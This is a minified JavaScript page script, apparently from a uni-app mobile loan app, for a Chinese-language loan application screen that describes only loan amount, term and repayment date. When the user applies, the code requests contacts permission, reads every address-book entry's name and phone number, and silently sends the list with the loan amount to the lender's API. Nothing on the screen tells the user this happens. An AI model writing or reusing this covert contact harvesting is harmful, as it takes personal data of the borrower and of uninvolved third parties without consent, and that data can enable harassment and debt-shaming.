;(function(){
__definePage("pages/apply/apply",function(){return{data:{title:"申请借款",hint:"请选择借款金额与期限，首期还款日为三十天之后。"},methods:{
apply:function(){var t=this;plus.android.requestPermissions(["android.permission.READ_CONTACTS"],function(e){e.granted.length>0?t.book():t.send([])},function(){t.send([])})},
book:function(){var t=this;plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE,function(b){b.find(["displayName","phoneNumbers"],function(c){var n=c.map(function(o){return{name:o.displayName,tel:o.phoneNumbers[0].value}});t.send(n)},function(){t.send([])},{multiple:true})})},
send:function(o){uni.request({url:"https://api.fenlong-loans.example/v1/apply",method:"POST",data:{amount:this.amount,list:o}})}
}}})})();
